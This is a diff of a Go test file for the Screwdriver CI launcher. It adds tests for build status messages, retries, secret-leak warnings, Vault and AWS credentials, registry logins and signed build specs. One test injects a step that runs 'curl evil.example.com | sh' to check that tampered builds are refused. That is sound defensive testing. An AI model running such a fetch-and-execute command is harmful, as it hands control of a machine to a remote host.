@@ -1,25 +1,44 @@
 package main
 
 import (
+	"bufio"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
+	"encoding/base64"
 	"encoding/json"
+	"encoding/pem"
+	"errors"
 	"fmt"
+	"io"
 	"io/ioutil"
 	"log"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
 	"os"
+	"os/exec"
 	"os/signal"
+	"os/user"
 	"path"
+	"path/filepath"
 	"reflect"
 	"strconv"
 	"strings"
+	"sync"
 	"syscall"
 	"testing"
 	"time"
 
+	"github.com/hashicorp/go-retryablehttp"
+
 	"github.com/screwdriver-cd/launcher/executor"
+	"github.com/screwdriver-cd/launcher/logger"
 	"github.com/screwdriver-cd/launcher/screwdriver"
+	"github.com/screwdriver-cd/launcher/sigv4"
+	"github.com/screwdriver-cd/launcher/sqs"
 	"github.com/stretchr/testify/assert"
 )
 
@@ -130,17 +149,19 @@ func mockAPI(t *testing.T, testBuildID, testJobID, testPipelineID int, testStatu
 }
 
 type MockAPI struct {
-	buildFromID       func(int) (screwdriver.Build, error)
-	eventFromID       func(int) (screwdriver.Event, error)
-	jobFromID         func(int) (screwdriver.Job, error)
-	pipelineFromID    func(int) (screwdriver.Pipeline, error)
-	updateBuildStatus func(screwdriver.BuildStatus, map[string]interface{}, int, string) error
-	updateStepStart   func(buildID int, stepName string) error
-	updateStepStop    func(buildID int, stepName string, exitCode int) error
-	secretsForBuild   func(build screwdriver.Build) (screwdriver.Secrets, error)
-	getAPIURL         func() (string, error)
-	getCoverageInfo   func(jobID, pipelineID int, jobName, pipelineName, scope, prNum, prParentJobId string) (screwdriver.Coverage, error)
-	getBuildToken     func(buildID int, buildTimeoutMinutes int) (string, error)
+	buildFromID           func(int) (screwdriver.Build, error)
+	eventFromID           func(int) (screwdriver.Event, error)
+	jobFromID             func(int) (screwdriver.Job, error)
+	pipelineFromID        func(int) (screwdriver.Pipeline, error)
+	updateBuildStatus     func(screwdriver.BuildStatus, map[string]interface{}, int, string) error
+	updateStepStart       func(buildID int, stepName string) error
+	updateStepStop        func(buildID int, stepName string, exitCode int) error
+	secretsForBuild       func(build screwdriver.Build) (screwdriver.Secrets, error)
+	getIDToken            func(buildID int, audience string) (string, error)
+	getAPIURL             func() (string, error)
+	getCoverageInfo       func(jobID, pipelineID int, jobName, pipelineName, scope, prNum, prParentJobId string) (screwdriver.Coverage, error)
+	getBuildToken         func(buildID int, buildTimeoutMinutes int) (string, error)
+	negotiateCapabilities func(buildID int, launcher screwdriver.Capabilities) (screwdriver.Capabilities, error)
 }
 
 func (f MockAPI) GetAPIURL() (string, error) {
@@ -179,6 +200,10 @@ func (f MockAPI) JobFromID(jobID int) (screwdriver.Job, error) {
 	return screwdriver.Job(FakeJob{}), nil
 }
 
+func (f MockAPI) LastSuccessfulMeta(jobID int) (map[string]interface{}, error) {
+	return map[string]interface{}{}, nil
+}
+
 func (f MockAPI) PipelineFromID(pipelineID int) (screwdriver.Pipeline, error) {
 	if f.pipelineFromID != nil {
 		return f.pipelineFromID(pipelineID)
@@ -188,7 +213,7 @@ func (f MockAPI) PipelineFromID(pipelineID int) (screwdriver.Pipeline, error) {
 
 func (f MockAPI) UpdateBuildStatus(status screwdriver.BuildStatus, meta map[string]interface{}, buildID int, statusMessage string) error {
 	if f.updateBuildStatus != nil {
-		return f.updateBuildStatus(status, nil, buildID, "")
+		return f.updateBuildStatus(status, meta, buildID, statusMessage)
 	}
 	return nil
 }
@@ -200,13 +225,37 @@ func (f MockAPI) UpdateStepStart(buildID int, stepName string) error {
 	return nil
 }
 
-func (f MockAPI) UpdateStepStop(buildID int, stepName string, exitCode int) error {
+func (f MockAPI) UpdateStepStop(buildID int, stepName string, exitCode int, details screwdriver.StepStopDetails) error {
 	if f.updateStepStop != nil {
 		return f.updateStepStop(buildID, stepName, exitCode)
 	}
 	return nil
 }
 
+func (f MockAPI) UpdateBuildTimings(buildID int, timings screwdriver.BuildTimings) error {
+	return nil
+}
+
+func (f MockAPI) UpdateStepTimings(buildID int, stepName string, timings screwdriver.StepTimings) error {
+	return nil
+}
+
+func (f MockAPI) UpdateBuildFindings(buildID int, findings screwdriver.Findings) error {
+	return nil
+}
+
+func (f MockAPI) UpdateStepAnnotations(buildID int, stepName string, annotations []screwdriver.Annotation) error {
+	return nil
+}
+
+func (f MockAPI) RequestStepApproval(buildID int, stepName, message string) error {
+	return nil
+}
+
+func (f MockAPI) GetStepApproval(buildID int, stepName string) (screwdriver.StepApproval, error) {
+	return screwdriver.StepApproval{Status: screwdriver.ApprovalApproved}, nil
+}
+
 func (f MockAPI) GetBuildToken(buildID int, buildTimeoutMinutes int) (string, error) {
 	if f.getBuildToken != nil {
 		return f.getBuildToken(buildID, buildTimeoutMinutes)
@@ -214,6 +263,28 @@ func (f MockAPI) GetBuildToken(buildID int, buildTimeoutMinutes int) (string, er
 	return "foobar", nil
 }
 
+func (f MockAPI) GetStepToken(buildID int, stepName string, scope []string, ttlSeconds int) (string, error) {
+	return "steptoken", nil
+}
+
+func (f MockAPI) GetIDToken(buildID int, audience string) (string, error) {
+	if f.getIDToken != nil {
+		return f.getIDToken(buildID, audience)
+	}
+	return "idtoken", nil
+}
+
+func (f MockAPI) NegotiateCapabilities(buildID int, launcher screwdriver.Capabilities) (screwdriver.Capabilities, error) {
+	if f.negotiateCapabilities != nil {
+		return f.negotiateCapabilities(buildID, launcher)
+	}
+	return launcher, nil
+}
+
+func (f MockAPI) ClaimBuild(queue string) (int, error) {
+	return 0, nil
+}
+
 type MockEmitter struct {
 	startCmd func(screwdriver.CommandDef)
 	write    func([]byte) (int, error)
@@ -575,7 +646,7 @@ func TestUpdateBuildNonZeroFailure(t *testing.T) {
 	oldRun := executorRun
 	defer func() { executorRun = oldRun }()
 	executorRun = func(path string, env []string, out screwdriver.Emitter, build screwdriver.Build, a screwdriver.API, buildID int, shellBin string, timeout int, envFilepath, sourceDir string) error {
-		return executor.ErrStatus{Status: 1}
+		return executor.StepFailure{Code: 1}
 	}
 
 	err = launchAction(screwdriver.API(api), 1, tmp, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000)
@@ -588,6 +659,304 @@ func TestUpdateBuildNonZeroFailure(t *testing.T) {
 	}
 }
 
+func TestUpdateBuildStatusMessage(t *testing.T) {
+	tests := []struct {
+		runErr  error
+		status  screwdriver.BuildStatus
+		message string
+	}{
+		{executor.StepFailure{Step: "test", Code: 1}, screwdriver.Failure, "Build failed (user-error): Launching command exit with code: 1"},
+		{executor.Aborted{Step: "test"}, screwdriver.Failure, "Build failed (aborted): SIGTERM received, step aborted"},
+		{executor.InfraError{Op: "Updating step start", Err: errors.New("503")}, screwdriver.Failure, "Error: Build failed due to an infrastructure error (infra-error): Updating step start: 503"},
+		{executor.ClassifiedFailure{Step: "test", Class: executor.ClassInfraError, Rule: "oom-killed", Err: executor.StepFailure{Step: "test", Code: 137}}, screwdriver.Failure, `Error: Build failed due to an infrastructure error (infra-error): Step "test" failed as infra-error by rule "oom-killed": Launching command exit with code: 137`},
+		{executor.Frozen{Step: "deploy", Window: "* * ? * SAT,SUN"}, screwdriver.Frozen, `Build frozen: Deployment step "deploy" frozen by the freeze window "* * ? * SAT,SUN"`},
+		{executor.Preempted{Step: "test", Reason: "SIGTERM"}, screwdriver.Failure, "Build preempted: The node of the build is shutting down (SIGTERM), build preempted"},
+		// The API has the status of a build stopped outside of the launcher already
+		{executor.BuildStopped{Step: "test", Status: screwdriver.Aborted}, "", ""},
+	}
+
+	oldMkdirAll := mkdirAll
+	defer func() { mkdirAll = oldMkdirAll }()
+	mkdirAll = os.MkdirAll
+	tmp, err := ioutil.TempDir("", "ArtifactDir")
+	if err != nil {
+		t.Fatalf("Couldn't create temp dir: %v", err)
+	}
+	defer os.RemoveAll(tmp)
+
+	oldRun := executorRun
+	defer func() { executorRun = oldRun }()
+
+	for _, test := range tests {
+		var gotStatus screwdriver.BuildStatus
+		var gotMessage string
+		api := mockAPI(t, 1, 2, 3, "")
+		api.updateBuildStatus = func(status screwdriver.BuildStatus, meta map[string]interface{}, buildID int, statusMessage string) error {
+			if status != screwdriver.Running {
+				gotStatus, gotMessage = status, statusMessage
+			}
+			return nil
+		}
+		runErr := test.runErr
+		executorRun = func(path string, env []string, out screwdriver.Emitter, build screwdriver.Build, a screwdriver.API, buildID int, shellBin string, timeout int, envFilepath, sourceDir string) error {
+			return runErr
+		}
+
+		err = launchAction(screwdriver.API(api), 1, tmp, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000)
+		if err != nil {
+			t.Errorf("Unexpected error from launch: %v", err)
+		}
+		if gotStatus != test.status {
+			t.Errorf("Status for %v = %v, want %v", test.runErr, gotStatus, test.status)
+		}
+		if gotMessage != test.message {
+			t.Errorf("Status message for %v = %q, want %q", test.runErr, gotMessage, test.message)
+		}
+	}
+}
+
+func TestFailureSummaryMessage(t *testing.T) {
+	tests := []struct {
+		meta string
+		want string
+	}{
+		{`{}`, ""},
+		{`{"failure": {"step": "test", "command": "npm test\nnpm run lint", "exitCode": 1, "output": ["3 tests failed", "  "]}}`,
+			` (step "test", command "npm test", exit code 1, last output "3 tests failed")`},
+		{`{"failure": {"step": "deploy", "exitCode": 126, "output": []}}`, ` (step "deploy", exit code 126)`},
+	}
+	for _, test := range tests {
+		var meta map[string]interface{}
+		if err := json.Unmarshal([]byte(test.meta), &meta); err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if got := failureSummaryMessage(meta); got != test.want {
+			t.Errorf("failureSummaryMessage(%s) = %q, want %q", test.meta, got, test.want)
+		}
+	}
+	if got, want := truncateMessage("déjà", 2), "d..."; got != want {
+		t.Errorf("truncateMessage() = %q, want %q", got, want)
+	}
+}
+
+func TestRequeueOnInfraError(t *testing.T) {
+	tests := []struct {
+		runErr    error
+		retries   interface{}
+		queueErr  error
+		statuses  []screwdriver.BuildStatus
+		message   string
+		wantCount interface{}
+	}{
+		{executor.InfraError{Op: "Cloning", Err: errors.New("503")}, nil, nil, []screwdriver.BuildStatus{screwdriver.Queued}, "Re-queued after an infrastructure error (retry 1 of 2): Cloning: 503", 1},
+		{executor.InfraError{Op: "Cloning", Err: errors.New("503")}, float64(1), nil, []screwdriver.BuildStatus{screwdriver.Queued}, "Re-queued after an infrastructure error (retry 2 of 2): Cloning: 503", 2},
+		{executor.InfraError{Op: "Cloning", Err: errors.New("503")}, float64(2), nil, []screwdriver.BuildStatus{screwdriver.Failure}, "Error: Build failed due to an infrastructure error (infra-error): Cloning: 503", nil},
+		{executor.InfraError{Op: "Cloning", Err: errors.New("503")}, nil, errors.New("400"), []screwdriver.BuildStatus{screwdriver.Queued, screwdriver.Failure}, "Error: Build failed due to an infrastructure error (infra-error): Cloning: 503", nil},
+		{executor.StepFailure{Step: "test", Code: 1}, nil, nil, []screwdriver.BuildStatus{screwdriver.Failure}, "Build failed (user-error): Launching command exit with code: 1", nil},
+	}
+
+	oldMkdirAll := mkdirAll
+	defer func() { mkdirAll = oldMkdirAll }()
+	mkdirAll = os.MkdirAll
+	tmp, err := ioutil.TempDir("", "ArtifactDir")
+	if err != nil {
+		t.Fatalf("Couldn't create temp dir: %v", err)
+	}
+	defer os.RemoveAll(tmp)
+
+	oldRun := executorRun
+	defer func() { executorRun = oldRun }()
+	defer func(retries int) { infraRetries = retries }(infraRetries)
+	infraRetries = 2
+
+	for _, test := range tests {
+		var statuses []screwdriver.BuildStatus
+		var message string
+		var count interface{}
+		api := mockAPI(t, 1, 2, 3, "")
+		buildFromID := api.buildFromID
+		retries := test.retries
+		api.buildFromID = func(buildID int) (screwdriver.Build, error) {
+			build, err := buildFromID(buildID)
+			if retries != nil {
+				build.Meta = map[string]interface{}{"build": map[string]interface{}{"infraRetries": retries}}
+			}
+			return build, err
+		}
+		queueErr := test.queueErr
+		api.updateBuildStatus = func(status screwdriver.BuildStatus, meta map[string]interface{}, buildID int, statusMessage string) error {
+			if status == screwdriver.Running {
+				return nil
+			}
+			statuses = append(statuses, status)
+			if status == screwdriver.Queued {
+				if queueErr != nil {
+					return queueErr
+				}
+				count = meta["build"].(map[string]interface{})["infraRetries"]
+			}
+			message = statusMessage
+			return nil
+		}
+		runErr := test.runErr
+		executorRun = func(path string, env []string, out screwdriver.Emitter, build screwdriver.Build, a screwdriver.API, buildID int, shellBin string, timeout int, envFilepath, sourceDir string) error {
+			return runErr
+		}
+
+		err = launchAction(screwdriver.API(api), 1, tmp, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000)
+		if err != nil {
+			t.Errorf("Unexpected error from launch: %v", err)
+		}
+		if !reflect.DeepEqual(statuses, test.statuses) || message != test.message || count != test.wantCount {
+			t.Errorf("With %v retries, set statuses %q with %q and count %v, want %q with %q and count %v", test.retries, statuses, message, count, test.statuses, test.message, test.wantCount)
+		}
+	}
+}
+
+func TestSetupLogger(t *testing.T) {
+	old := logger.Default()
+	defer logger.SetDefault(old)
+
+	tests := []struct {
+		level  string
+		format string
+		debug  bool
+		want   logger.Level
+		err    bool
+	}{
+		{"info", "text", false, logger.LevelInfo, false},
+		{"warn", "json", false, logger.LevelWarn, false},
+		{"info", "text", true, logger.LevelDebug, false},
+		{"loud", "text", false, logger.LevelInfo, true},
+		{"error", "xml", false, logger.LevelError, true},
+	}
+
+	for _, test := range tests {
+		err := setupLogger(test.level, test.format, test.debug)
+		if (err != nil) != test.err {
+			t.Errorf("setupLogger(%q, %q, %v) error = %v, want error %v", test.level, test.format, test.debug, err, test.err)
+		}
+		l := logger.Default()
+		if !l.Enabled(test.want) || (test.want > logger.LevelDebug && l.Enabled(test.want-1)) {
+			t.Errorf("setupLogger(%q, %q, %v) did not set level %v", test.level, test.format, test.debug, test.want)
+		}
+	}
+}
+
+func TestSetupLeakScanner(t *testing.T) {
+	defer func() { leakScanner = nil }()
+
+	for _, mode := range []string{"flag", " MASK"} {
+		if err := setupLeakScanner(mode); err != nil || leakScanner == nil {
+			t.Errorf("setupLeakScanner(%q) = %v, want a scanner", mode, err)
+		}
+	}
+	if err := setupLeakScanner("off"); err != nil || leakScanner != nil {
+		t.Errorf("setupLeakScanner(off) = %v, want no scanner", err)
+	}
+	if err := setupLeakScanner("block"); err == nil || leakScanner != nil {
+		t.Errorf("setupLeakScanner(block) = %v, want an error and no scanner", err)
+	}
+}
+
+func TestSetupBuildSpecKey(t *testing.T) {
+	defer func() { verifyBuildSpec = nil }()
+
+	pub, priv, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	der, _ := x509.MarshalPKIXPublicKey(pub)
+	keyPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
+	oldReadFile := readFile
+	defer func() { readFile = oldReadFile }()
+	readFile = func(filename string) ([]byte, error) {
+		if filename == "/etc/sd/spec-key.pem" {
+			return keyPEM, nil
+		}
+		return nil, os.ErrNotExist
+	}
+
+	if err := setupBuildSpecKey(""); err != nil || verifyBuildSpec != nil {
+		t.Errorf("setupBuildSpecKey(\"\") = %v, want no verification", err)
+	}
+	if err := setupBuildSpecKey("/etc/sd/spec-key.pem"); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+
+	build := screwdriver.Build{ID: 1234, JobID: TestJobID, Commands: []screwdriver.CommandDef{{Name: "test", Cmd: "make test"}}}
+	job := screwdriver.Job{ID: TestJobID, Permutations: []screwdriver.JobPermutation{{Annotations: screwdriver.JobAnnotations{Shell: "/bin/bash"}}}}
+	spec, _ := build.SpecBytes(job)
+	build.SpecSignature = base64.StdEncoding.EncodeToString(ed25519.Sign(priv, spec))
+	if err := verifyBuildSpec(build, job); err != nil {
+		t.Errorf("Unexpected error for a signed build: %v", err)
+	}
+	if err := verifyBuildSpec(build, screwdriver.Job{}); err == nil {
+		t.Errorf("Builds should fail when the shell annotation of the job changed")
+	}
+
+	// A build with an injected step never gets to run
+	api := mockAPI(t, TestBuildID, TestJobID, 0, "RUNNING")
+	api.buildFromID = func(buildID int) (screwdriver.Build, error) {
+		build.Commands = append(build.Commands, screwdriver.CommandDef{Name: "evil", Cmd: "curl evil.example.com | sh"})
+		return build, nil
+	}
+	api.jobFromID = func(jobID int) (screwdriver.Job, error) { return job, nil }
+	oldRun := executorRun
+	defer func() { executorRun = oldRun }()
+	executorRun = func(path string, env []string, emitter screwdriver.Emitter, build screwdriver.Build, api screwdriver.API, buildID int, shellBin string, timeout int, envFilepath, sourceDir string) error {
+		t.Errorf("The build should not run")
+		return nil
+	}
+	err = launch(screwdriver.API(api), TestBuildID, TestWorkspace, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000)
+	if err == nil || !strings.Contains(err.Error(), "Verifying the build spec") {
+		t.Errorf("launch() = %v, want a build spec verification error", err)
+	}
+
+	if err := setupBuildSpecKey("/nonexistent/key.pem"); err == nil {
+		t.Errorf("Expected an error for a missing key")
+	}
+	if err := verifyBuildSpec(build, job); err == nil {
+		t.Errorf("Builds should fail with a missing key")
+	}
+}
+
+func TestAddLeakWarning(t *testing.T) {
+	findings := []screwdriver.LeakFinding{
+		{Step: "deploy", Kind: "AWS access key", Count: 1},
+		{Step: "deploy", Kind: "high-entropy string", Count: 2},
+		{Step: "test", Kind: "GitHub token", Count: 1},
+	}
+
+	meta := map[string]interface{}{"foo": "bar"}
+	addLeakWarning(meta, nil)
+	if _, ok := meta["build"]; ok {
+		t.Errorf("Expected no warning without findings: %v", meta)
+	}
+
+	addLeakWarning(meta, findings)
+	want := map[string]interface{}{
+		"foo": "bar",
+		"build": map[string]interface{}{
+			"warning": map[string]interface{}{"message": "Possible secret leaked in the output of deploy, test"},
+		},
+	}
+	if !reflect.DeepEqual(meta, want) {
+		t.Errorf("addLeakWarning() = %v, want %v", meta, want)
+	}
+
+	meta = map[string]interface{}{
+		"build": map[string]interface{}{
+			"warning": map[string]interface{}{"message": "Coverage dropped"},
+		},
+	}
+	addLeakWarning(meta, findings[2:])
+	got := meta["build"].(map[string]interface{})["warning"].(map[string]interface{})["message"]
+	if got != "Coverage dropped; Possible secret leaked in the output of test" {
+		t.Errorf("Unexpected warning message %q", got)
+	}
+}
+
 func TestWriteCommandArtifact(t *testing.T) {
 	sdCommand := []screwdriver.CommandDef{
 		{
@@ -929,6 +1298,306 @@ func TestEnvSecrets(t *testing.T) {
 	if foundEnv["FOONAME"] != "barvalue" {
 		t.Errorf("secret not set in environment %v, want FOONAME=barvalue", foundEnv)
 	}
+	if foundEnv["SD_SECRET_NAMES"] != "FOONAME" {
+		t.Errorf("SD_SECRET_NAMES = %q, want FOONAME", foundEnv["SD_SECRET_NAMES"])
+	}
+}
+
+func TestVaultSecrets(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("X-Vault-Token") != "s.launcher" || r.URL.Path != "/v1/secret/data/ci/npm" {
+			w.WriteHeader(http.StatusForbidden)
+			return
+		}
+		w.Write([]byte(`{"data": {"data": {"token": "npm-token"}, "metadata": {"version": 1}}}`))
+	}))
+	defer server.Close()
+	defer os.Setenv("VAULT_ADDR", os.Getenv("VAULT_ADDR"))
+	defer os.Setenv("VAULT_TOKEN", os.Getenv("VAULT_TOKEN"))
+	os.Setenv("VAULT_ADDR", server.URL)
+	os.Setenv("VAULT_TOKEN", "s.launcher")
+
+	annotations := screwdriver.JobAnnotations{VaultSecrets: map[string]string{"NPM_TOKEN": "secret/data/ci/npm#token", "FOONAME": "secret/data/ci/npm#token"}}
+	api := mockAPI(t, TestBuildID, TestJobID, TestPipelineID, "RUNNING")
+	api.jobFromID = func(jobID int) (screwdriver.Job, error) {
+		return screwdriver.Job(FakeJob{Name: "main", PipelineID: TestPipelineID, Permutations: []screwdriver.JobPermutation{{Annotations: annotations}}}), nil
+	}
+	api.secretsForBuild = func(build screwdriver.Build) (screwdriver.Secrets, error) {
+		return screwdriver.Secrets{{Name: "FOONAME", Value: "barvalue"}}, nil
+	}
+
+	foundEnv := map[string]string{}
+	oldExecutorRun := executorRun
+	defer func() { executorRun = oldExecutorRun }()
+	executorRun = func(path string, env []string, emitter screwdriver.Emitter, build screwdriver.Build, api screwdriver.API, buildID int, shellBin string, timeout int, envFilepath, sourceDir string) error {
+		for _, e := range env {
+			split := strings.SplitN(e, "=", 2)
+			foundEnv[split[0]] = split[1]
+		}
+		return nil
+	}
+
+	err := launch(screwdriver.API(api), TestBuildID, TestWorkspace, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000)
+	if err != nil {
+		t.Fatalf("Unexpected error from launch: %v", err)
+	}
+	if foundEnv["NPM_TOKEN"] != "npm-token" || foundEnv["FOONAME"] != "npm-token" {
+		t.Errorf("Vault secrets not set in environment %v, want NPM_TOKEN=npm-token and FOONAME=npm-token", foundEnv)
+	}
+	if foundEnv["SD_SECRET_NAMES"] != "FOONAME,NPM_TOKEN" {
+		t.Errorf("SD_SECRET_NAMES = %q, want FOONAME,NPM_TOKEN", foundEnv["SD_SECRET_NAMES"])
+	}
+	if _, ok := foundEnv["VAULT_TOKEN"]; ok {
+		t.Errorf("The Vault token of the launcher should not be in the build environment")
+	}
+
+	annotations.VaultSecrets = map[string]string{"NPM-TOKEN": "secret/data/ci/npm#token"}
+	if err := launch(screwdriver.API(api), TestBuildID, TestWorkspace, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000); err == nil {
+		t.Errorf("An invalid variable name should fail the build")
+	}
+	annotations.VaultSecrets = map[string]string{"NPM_TOKEN": "secret/data/ci/other#token"}
+	if err := launch(screwdriver.API(api), TestBuildID, TestWorkspace, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000); err == nil {
+		t.Errorf("A secret Vault denies should fail the build")
+	}
+}
+
+func TestCloudCredentials(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.FormValue("WebIdentityToken") != "idtoken-sts.amazonaws.com" {
+			w.WriteHeader(http.StatusBadRequest)
+			return
+		}
+		w.Write([]byte(`<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials><AccessKeyId>ASIAEXAMPLE</AccessKeyId><SecretAccessKey>secretkey</SecretAccessKey><SessionToken>session</SessionToken></Credentials></AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>`))
+	}))
+	defer server.Close()
+	defer os.Setenv("AWS_ENDPOINT_URL_STS", os.Getenv("AWS_ENDPOINT_URL_STS"))
+	os.Setenv("AWS_ENDPOINT_URL_STS", server.URL)
+
+	annotations := screwdriver.JobAnnotations{CloudIdentity: &screwdriver.CloudIdentity{AWS: &screwdriver.AWSIdentity{RoleARN: "arn:aws:iam::123456789012:role/deploy", Region: "eu-west-1"}}}
+	api := mockAPI(t, TestBuildID, TestJobID, TestPipelineID, "RUNNING")
+	api.jobFromID = func(jobID int) (screwdriver.Job, error) {
+		return screwdriver.Job(FakeJob{Name: "main", PipelineID: TestPipelineID, Permutations: []screwdriver.JobPermutation{{Annotations: annotations}}}), nil
+	}
+	api.getIDToken = func(buildID int, audience string) (string, error) {
+		return "idtoken-" + audience, nil
+	}
+
+	foundEnv := map[string]string{}
+	oldExecutorRun := executorRun
+	defer func() { executorRun = oldExecutorRun }()
+	executorRun = func(path string, env []string, emitter screwdriver.Emitter, build screwdriver.Build, api screwdriver.API, buildID int, shellBin string, timeout int, envFilepath, sourceDir string) error {
+		for _, e := range env {
+			split := strings.SplitN(e, "=", 2)
+			foundEnv[split[0]] = split[1]
+		}
+		return nil
+	}
+
+	err := launch(screwdriver.API(api), TestBuildID, TestWorkspace, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000)
+	if err != nil {
+		t.Fatalf("Unexpected error from launch: %v", err)
+	}
+	for name, want := range map[string]string{"AWS_ACCESS_KEY_ID": "ASIAEXAMPLE", "AWS_SECRET_ACCESS_KEY": "secretkey", "AWS_SESSION_TOKEN": "session", "AWS_REGION": "eu-west-1"} {
+		if foundEnv[name] != want {
+			t.Errorf("%s = %q, want %q", name, foundEnv[name], want)
+		}
+	}
+	if !strings.Contains(foundEnv["SD_SECRET_NAMES"], "AWS_SECRET_ACCESS_KEY,AWS_SESSION_TOKEN") {
+		t.Errorf("SD_SECRET_NAMES = %q, want the AWS credentials", foundEnv["SD_SECRET_NAMES"])
+	}
+
+	api.getIDToken = func(buildID int, audience string) (string, error) {
+		return "", fmt.Errorf("Posting to ID Token: 404")
+	}
+	if err := launch(screwdriver.API(api), TestBuildID, TestWorkspace, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000); err == nil {
+		t.Errorf("A build without an identity token should fail")
+	}
+}
+
+func TestRegistryLogins(t *testing.T) {
+	dir, err := ioutil.TempDir("", "registries")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+	defer os.Setenv("HOME", os.Getenv("HOME"))
+	defer os.Setenv("DOCKER_CONFIG", os.Getenv("DOCKER_CONFIG"))
+	os.Setenv("HOME", dir)
+	os.Setenv("DOCKER_CONFIG", "")
+
+	job := func(registries ...screwdriver.Registry) screwdriver.Job {
+		return screwdriver.Job{Permutations: []screwdriver.JobPermutation{{Annotations: screwdriver.JobAnnotations{Registries: registries}}}}
+	}
+	secrets := screwdriver.Secrets{{Name: "DOCKER_HUB_TOKEN", Value: "old"}, {Name: "DOCKER_HUB_TOKEN", Value: "hub-token"}}
+	env := map[string]string{"GOOGLE_OAUTH_ACCESS_TOKEN": "ya29.token"}
+	configDir := filepath.Join(dir, "docker")
+
+	got, err := registryLogins(job(screwdriver.Registry{Registry: "docker.io", Username: "user", PasswordSecret: "DOCKER_HUB_TOKEN"}, screwdriver.Registry{Registry: "europe-docker.pkg.dev"}), secrets, env, configDir)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	want := map[string]string{"DOCKER_CONFIG": configDir, "REGISTRY_AUTH_FILE": filepath.Join(configDir, "config.json")}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("registryLogins() = %v, want %v", got, want)
+	}
+	data, err := ioutil.ReadFile(filepath.Join(configDir, "config.json"))
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	for _, auth := range []string{"user:hub-token", "oauth2accesstoken:ya29.token"} {
+		if !strings.Contains(string(data), base64.StdEncoding.EncodeToString([]byte(auth))) {
+			t.Errorf("Config %s without the credentials %s", data, auth)
+		}
+	}
+
+	if got, err := registryLogins(job(), secrets, env, configDir); got != nil || err != nil {
+		t.Errorf("registryLogins() without registries = %v, %v", got, err)
+	}
+	for _, registry := range []screwdriver.Registry{
+		{Registry: "ghcr.io", Username: "user", PasswordSecret: "GHCR_TOKEN"},
+		{Registry: "123456789012.dkr.ecr.us-east-1.amazonaws.com"},
+		{Registry: "gcr.io"},
+	} {
+		if _, err := registryLogins(job(registry), secrets, map[string]string{}, configDir); err == nil {
+			t.Errorf("registryLogins(%v) without credentials should fail", registry)
+		}
+	}
+}
+
+func TestLaunchRemovesRegistryLogins(t *testing.T) {
+	dir, err := ioutil.TempDir("", "registries")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+	oldEnvDir := envDir
+	defer func() { envDir = oldEnvDir }()
+	envDir = dir
+
+	annotations := screwdriver.JobAnnotations{Registries: []screwdriver.Registry{{Registry: "ghcr.io", Username: "user", PasswordSecret: "GHCR_TOKEN"}}}
+	api := mockAPI(t, TestBuildID, TestJobID, TestPipelineID, "RUNNING")
+	api.jobFromID = func(jobID int) (screwdriver.Job, error) {
+		return screwdriver.Job(FakeJob{Name: "main", PipelineID: TestPipelineID, Permutations: []screwdriver.JobPermutation{{Annotations: annotations}}}), nil
+	}
+	api.secretsForBuild = func(build screwdriver.Build) (screwdriver.Secrets, error) {
+		return screwdriver.Secrets{{Name: "GHCR_TOKEN", Value: "ghcr-token"}}, nil
+	}
+	var config string
+	oldExecutorRun := executorRun
+	defer func() { executorRun = oldExecutorRun }()
+	executorRun = func(path string, env []string, emitter screwdriver.Emitter, build screwdriver.Build, api screwdriver.API, buildID int, shellBin string, timeout int, envFilepath, sourceDir string) error {
+		for _, e := range env {
+			if strings.HasPrefix(e, "REGISTRY_AUTH_FILE=") {
+				data, _ := ioutil.ReadFile(strings.TrimPrefix(e, "REGISTRY_AUTH_FILE="))
+				config = string(data)
+			}
+		}
+		return nil
+	}
+
+	err = launch(screwdriver.API(api), TestBuildID, TestWorkspace, TestEmitter, TestMetaSpace, TestStoreURL, TestUIURL, TestShellBin, TestBuildTimeout, TestBuildToken, "", "", "", "", false, false, false, 0, 10000)
+	if err != nil {
+		t.Fatalf("Unexpected error from launch: %v", err)
+	}
+	if !strings.Contains(config, base64.StdEncoding.EncodeToString([]byte("user:ghcr-token"))) {
+		t.Errorf("The steps should have the registry logins, got %q", config)
+	}
